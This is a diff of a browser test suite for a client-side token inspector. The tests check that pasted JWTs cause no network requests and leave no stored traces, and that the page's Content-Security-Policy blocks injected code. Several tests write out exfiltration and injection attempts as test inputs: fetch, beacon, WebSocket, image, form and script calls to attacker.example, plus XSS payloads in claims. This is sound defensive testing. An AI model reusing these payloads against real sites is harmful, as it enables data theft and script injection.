@@ -1,110 +1,251 @@
-// What the page promises a security engineer: nothing leaves, nothing stays, and the policy that says
-// so is the one that holds.
+// Nothing leaves the page: no request of any kind after it is ready, nothing of a paste in any place
+// that outlives the text box or that others can read; and the policy the browser enforces says so too.
 import assert from "node:assert/strict";
-import { after, before, test } from "node:test";
+import { after, before, describe, test } from "node:test";
 import { NOW, launch, url, visit } from "./browser.mjs";
-import { OPAQUE, access, identity } from "./tokens.mjs";
-
-const SECRET = "c2VjcmV0LW9mLXRoZS1wYXN0ZQ-do-not-keep";
-const TOKEN = access({ marker: SECRET });
+import { OPAQUE, access, encode, jws } from "./tokens.mjs";
 
 let browser;
 before(async () => { browser = await launch(); });
 after(() => browser?.close());
 
-/** Everything a page can leave behind, as one text. */
-const leftBehind = (page) => page.evaluate(async () => {
-  const databases = await indexedDB.databases?.() ?? [];
-  const caches = await globalThis.caches?.keys() ?? [];
-  return JSON.stringify([
-    location.href, document.title, document.cookie, history.state, history.length,
-    { ...localStorage }, { ...sessionStorage }, databases, caches, window.name,
-  ]);
-});
+const SECRET = "correct-horse-battery";
+/** A word that stands in every paste below, in the clear or encoded. */
+const MARKED = "marked-248289761001";
 
-test("a day's pastes cause no request, and leave nothing behind", async () => {
-  const seen = await visit(browser, { now: NOW });
-  const page = seen.claimlens;
-  const before = await leftBehind(seen.page);
-  const pastes = [
-    TOKEN, `Authorization: Bearer ${TOKEN}`, `https://client.example/cb#access_token=${TOKEN}`, OPAQUE,
-    JSON.stringify({ access_token: TOKEN, id_token: identity(), token_type: "Bearer" }),
-    "Authorization: Basic dXNlcjpwYXNzd29yZA==", `${SECRET} https://attacker.example/${SECRET}.png`,
-    `<img src="https://attacker.example/${SECRET}"><script src="https://attacker.example/x.js"></script>`,
-    access({ jku: "https://attacker.example/keys", iss: "https://attacker.example", picture: "https://attacker.example/p.png" }),
-  ];
-  for (const paste of pastes) await page.replace(paste);
-  await page.clear();
-  await page.undo();
-  await page.theme("dark");
-  await page.theme("system");
-  assert.equal(await leftBehind(seen.page), before);
-  await seen.end();
-});
+const PASTES = [
+  access({ sub: MARKED }),
+  // A token that names places to fetch keys from, as an attacker's would.
+  jws({ alg: "RS256", jku: "https://attacker.example/jwks.json", x5u: "https://attacker.example/c.pem" }, { iss: "https://attacker.example/", sub: MARKED, picture: "https://attacker.example/p.png", website: `<img src="https://attacker.example/x.png">` }),
+  `Authorization: Basic ${Buffer.from(`${MARKED}:${SECRET}`).toString("base64")}`,
+  `Authorization: Bearer ${OPAQUE}`,
+  `https://app.example.com/cb?state=${MARKED}#access_token=${access({ sub: MARKED })}`,
+  `{"error":"invalid_client","error_description":"${MARKED}","error_uri":"https://attacker.example/why"}`,
+  `${MARKED} is no token at all`,
+];
 
-test("the theme is one word in storage, expectations stay in the session, the token in neither", async () => {
-  const seen = await visit(browser, { now: NOW });
-  const page = seen.claimlens;
-  await page.replace(TOKEN);
-  await page.theme("dark");
-  await page.expect({ audience: "https://api.example.com", scopes: "orders:read" });
-  const kept = await seen.page.evaluate(() => ({ local: { ...localStorage }, session: JSON.stringify({ ...sessionStorage }) }));
-  assert.deepEqual(kept.local, { theme: "dark" });
-  assert.match(kept.session, /https:\/\/api\.example\.com/);
-  const parts = TOKEN.split(".");
-  for (const piece of [SECRET, ...parts]) {
-    assert.ok(!kept.session.includes(piece), "nothing of the token");
+/** Everything of the page that outlives a paste or can be read by others. */
+function traces(page) {
+  return page.evaluate(async () => JSON.stringify({
+    address: location.href,
+    title: document.title,
+    history: [history.length, history.state],
+    cookie: document.cookie,
+    local: { ...localStorage },
+    session: { ...sessionStorage },
+    name: window.name,
+    databases: await indexedDB.databases(),
+    caches: await caches.keys(),
+    workers: (await navigator.serviceWorker.getRegistrations()).length,
+    globals: Object.keys(globalThis).filter((key) => typeof globalThis[key] === "string").map((key) => globalThis[key]),
+  }));
+}
+
+test("no request and no trace, whatever is pasted and whatever is done with it", async () => {
+  const session = await visit(browser, { now: NOW, context: { permissions: ["clipboard-read", "clipboard-write"] } });
+  const { page, claimlens } = session;
+  const before = await traces(page);
+  for (const text of PASTES) {
+    await claimlens.replace(text);
+    assert.ok(await claimlens.headline());
+    await claimlens.toggleRawJson();
+    for (const button of await page.locator("[data-do=copy]:visible").all()) await button.click();
+    for (const button of await page.locator("[data-do=goto]:visible").all()) await button.click();
+    await claimlens.toggleRawJson();
+    await claimlens.clear();
+    await claimlens.undo();
+    await claimlens.clear();
+    await claimlens.drop({ text, name: "paste.txt", asFile: true });
+    assert.deepEqual(session.requestsSince(), []);
+    assert.equal(await traces(page), before);
   }
-  await seen.end();
+  // The page would ask a while later, or while it is left.
+  await page.waitForTimeout(2_500);
+  const requests = session.requests.length;
+  await page.evaluate(() => dispatchEvent(new Event("pagehide")));
+  assert.equal(session.requests.length, requests);
+  assert.equal(await traces(page), before);
+  await session.end();
 });
 
-test("the policy in the page is the one in the header, and names no host", async () => {
-  const answer = await fetch(url);
-  const header = answer.headers.get("content-security-policy");
-  const html = await answer.text();
-  const meta = html.match(/http-equiv="Content-Security-Policy" content="([^"]*)"/i)?.[1];
-  assert.ok(meta, "a policy in the page");
-  const directives = (policy) => policy.split(";").map((directive) => directive.trim()).filter(Boolean).sort();
-  // frame-ancestors works in a header only.
-  const extra = directives(header).filter((directive) => !directives(meta).includes(directive));
-  assert.deepEqual(extra, ["frame-ancestors 'none'"]);
-  assert.ok(directives(meta).every((directive) => directives(header).includes(directive)));
-  assert.ok(directives(header).includes("default-src 'none'"));
-  assert.doesNotMatch(header, /https?:|\*|unsafe-inline|unsafe-eval'(?<!wasm-unsafe-eval')/);
-  assert.equal(answer.headers.get("x-content-type-options"), "nosniff");
-  assert.equal(answer.headers.get("referrer-policy"), "no-referrer");
+test("what is expected stays in this tab, without the token; nothing else is stored", async () => {
+  const session = await visit(browser, { now: NOW });
+  const { page, claimlens } = session;
+  await claimlens.replace(access({ sub: MARKED }));
+  await claimlens.expect({ issuer: "https://login.example.com/", audience: "orders" });
+  await claimlens.theme("dark");
+  const stored = await page.evaluate(() => ({ local: { ...localStorage }, session: { ...sessionStorage } }));
+  assert.deepEqual(Object.keys(stored.local), ["theme"]);
+  assert.equal(stored.local.theme, "dark");
+  assert.deepEqual(Object.keys(stored.session), ["expectations"]);
+  assert.equal(stored.session.expectations, "expect-issuer https://login.example.com/\nexpect-audience orders\n");
+  await session.end();
 });
 
-test("what the policy forbids does not happen", async () => {
-  const seen = await visit(browser);
-  const result = await seen.page.evaluate(async () => {
-    const reach = (address) => fetch(address, { mode: "no-cors" }).then(() => "reached", () => "refused");
-    const image = () => new Promise((done) => {
-      const picture = new Image();
-      picture.onload = () => done("loaded");
-      picture.onerror = () => done("refused");
-      picture.src = "https://third-party.example/pixel.png";
-    });
-    const script = document.createElement("script");
-    script.textContent = "globalThis.injected = true";
-    document.body.append(script);
-    return { fetch: await reach("https://third-party.example/"), image: await image(), injected: globalThis.injected === true };
+test("a token in the page's own address is not taken, and not sent on", async () => {
+  const token = access({ sub: MARKED });
+  const session = await visit(browser, { now: NOW, address: `${url}#access_token=${token}` });
+  assert.equal(await session.claimlens.text(), "");
+  assert.ok(session.requests.every((address) => !address.slice(url.length).includes(token)) || session.requests[0].includes("#"));
+  await session.end();
+});
+
+test("it works with the network switched off", async () => {
+  const session = await visit(browser, { now: NOW });
+  await session.context.setOffline(true);
+  await session.claimlens.replace(PASTES[0]);
+  assert.match(await session.claimlens.headline(), /^Access token from login\.example\.com/);
+  await session.end();
+});
+
+test("opening the list of files makes one request, to the own origin, and it is the only one there is", async () => {
+  const session = await visit(browser, { now: NOW });
+  await session.claimlens.replace(PASTES[0]);
+  await session.page.click("#how > summary");
+  await session.page.locator("#build li").first().waitFor();
+  assert.deepEqual(session.requestsSince(), [new URL("build.json", url).href]);
+  session.loaded = session.requests.length;
+  // The list is true: every file named is the one that is served.
+  const list = await session.page.locator("#build li").allTextContents();
+  assert.ok(list.some((line) => line.includes(".wasm")), "the list names the program");
+  await session.end();
+});
+
+describe("the Content-Security-Policy", () => {
+  /** A policy as a map of directives. */
+  const parsed = (policy) => Object.fromEntries(policy.split(";").map((part) => part.trim().split(/\s+/)).map(([name, ...values]) => [name, values.sort()]));
+
+  test("is the same in the header and in the page, but for what a page cannot say of itself", async () => {
+    const answer = await fetch(url);
+    const header = parsed(answer.headers.get("content-security-policy"));
+    const html = await answer.text();
+    const meta = parsed(html.match(/<meta http-equiv="?Content-Security-Policy"? content="([^"]+)"/i)[1].replaceAll("&#39;", "'"));
+    assert.deepEqual(header["frame-ancestors"], ["'none'"]);
+    delete header["frame-ancestors"];
+    assert.deepEqual(meta, header);
+    assert.deepEqual(meta["default-src"], ["'none'"]);
+    assert.deepEqual(meta["connect-src"], ["'self'"]);
+    assert.deepEqual(meta["style-src"], ["'self'"]);
+    for (const [name, values] of Object.entries(meta)) {
+      for (const value of values) {
+        assert.match(value, /^('none'|'self'|'wasm-unsafe-eval'|'sha256-[^']+'|data:)$/, `${name} allows ${value}`);
+        if (value === "data:") assert.equal(name, "img-src");
+      }
+    }
   });
-  assert.deepEqual(result, { fetch: "refused", image: "refused", injected: false });
-  assert.ok((await seen.violations()).length >= 3);
-  await seen.context.close();
+
+  test("every file is served with headers that keep it what it is", async () => {
+    const html = await (await fetch(url)).text();
+    const names = [...html.matchAll(/(?:href|src|data-js|data-wasm)="(?:\.\/|\/)?([\w.-]+\.(?:css|js|wasm))"/g)].map(([, name]) => name);
+    assert.ok(names.length >= 4, "the page names its files");
+    for (const name of ["", "build.json", ...names]) {
+      const { headers, status } = await fetch(new URL(name, url));
+      assert.equal(status, 200, name);
+      assert.equal(headers.get("x-content-type-options"), "nosniff", name);
+      assert.equal(headers.get("referrer-policy"), "no-referrer", name);
+      assert.match(headers.get("content-security-policy"), /default-src 'none'/, name);
+    }
+  });
+
+  // Each is tried as a script that got into the page would; all must be refused, and nothing sent.
+  const attacks = {
+    "a fetch elsewhere": () => fetch("https://attacker.example/?t=1").then(() => "went", () => "refused"),
+    "a beacon": () => navigator.sendBeacon("https://attacker.example/", "t") && "queued",
+    "an image": () => new Promise((done) => {
+      const image = new Image();
+      image.onload = () => done("went");
+      image.onerror = () => done("refused");
+      image.src = "https://attacker.example/p.png";
+    }),
+    "a web socket": () => new Promise((done) => {
+      try {
+        const socket = new WebSocket("wss://attacker.example/");
+        socket.onopen = () => done("went");
+        socket.onerror = () => done("refused");
+      } catch {
+        done("refused");
+      }
+    }),
+    "an inline script": () => {
+      const script = document.createElement("script");
+      script.textContent = "globalThis.injected = true";
+      document.body.append(script);
+      return globalThis.injected ? "went" : "refused";
+    },
+    "a handler in an attribute": () => {
+      const holder = document.createElement("div");
+      holder.innerHTML = '<button onclick="globalThis.injected = true">x</button>';
+      document.body.append(holder);
+      holder.firstChild.click();
+      return globalThis.injected ? "went" : "refused";
+    },
+    "a script from elsewhere": () => new Promise((done) => {
+      const script = document.createElement("script");
+      script.onload = () => done("went");
+      script.onerror = () => done("refused");
+      script.src = "https://attacker.example/x.js";
+      document.body.append(script);
+    }),
+    "text run as a program": () => {
+      // A timer's text: evaluating from here would be the tester's, which no policy holds.
+      setTimeout("globalThis.injected = true");
+      return new Promise((done) => setTimeout(() => done(globalThis.injected ? "went" : "refused"), 100));
+    },
+    "a style attribute": () => {
+      const holder = document.createElement("div");
+      holder.innerHTML = '<p style="background: url(https://attacker.example/p.png)">x</p>';
+      document.body.append(holder);
+      return holder.firstChild.style.background ? "went" : "refused";
+    },
+    "a frame": () => {
+      const frame = document.createElement("iframe");
+      frame.src = "https://attacker.example/";
+      document.body.append(frame);
+      return "tried";
+    },
+    "a form": () => {
+      const form = document.createElement("form");
+      form.action = "https://attacker.example/";
+      form.method = "post";
+      document.body.append(form);
+      form.submit();
+      return "tried";
+    },
+  };
+  for (const [name, attack] of Object.entries(attacks)) {
+    test(`refuses ${name}`, async () => {
+      const session = await visit(browser);
+      // Whatever came through would be seen here, and go no further.
+      const left = [];
+      await session.page.route(/attacker\.example/, (route) => {
+        left.push(route.request().url());
+        return route.abort();
+      });
+      assert.notEqual(await session.page.evaluate(attack), "went");
+      await session.page.waitForFunction(() => globalThis.seen.violations.length, undefined, { timeout: 2_000 });
+      assert.equal(await session.page.evaluate(() => globalThis.injected), undefined);
+      assert.deepEqual(left, []);
+      assert.equal(session.page.url(), url);
+      await session.context.close();
+    });
+  }
+
+  test("HTML in a claim stays text", async () => {
+    const session = await visit(browser, { now: NOW });
+    const html = `<img src=x onerror="globalThis.injected=1"><script>globalThis.injected=1</script><b id=bold>bold</b>`;
+    await session.claimlens.replace(jws({ alg: "RS256", kid: html }, { iss: html, sub: html, aud: html, scope: html, [html]: html }));
+    await session.claimlens.toggleRawJson();
+    assert.equal(await session.page.evaluate(() => globalThis.injected ?? document.querySelector("#bold, #report img, #report script")), null);
+    assert.equal(await session.claimlens.claim("sub"), html);
+    await session.end();
+  });
 });
 
-test("the list of the page's files is asked for by a person, from the same origin, and is right", async () => {
-  const seen = await visit(browser);
-  await seen.page.click("#how > summary");
-  await seen.page.locator("#build .files li").first().waitFor();
-  assert.deepEqual(seen.requestsSince(), [new URL("build.json", url).href]);
-  const { files } = await (await fetch(new URL("build.json", url))).json();
-  for (const [name, { sha384 }] of Object.entries(files)) {
-    const bytes = await (await fetch(new URL(name, url))).arrayBuffer();
-    const hash = Buffer.from(await crypto.subtle.digest("SHA-384", bytes));
-    assert.ok([hash.toString("base64"), hash.toString("hex"), `sha384-${hash.toString("base64")}`].includes(sha384), name);
-  }
-  await seen.context.close();
+test("a JWE's or a nested token's content is not sent anywhere either", async () => {
+  const session = await visit(browser, { now: NOW });
+  await session.claimlens.replace(jws({ alg: "RS256", cty: "JWT" }, access({ sub: MARKED })));
+  assert.equal(await session.claimlens.count(), 2);
+  await session.claimlens.replace([encode('{"alg":"dir","enc":"A256GCM","jku":"https://attacker.example/"}'), "", encode("i".repeat(12)), encode("c"), encode("t".repeat(16))].join("."));
+  assert.match(await session.claimlens.headline(), /^Encrypted token/);
+  await session.end();
 });
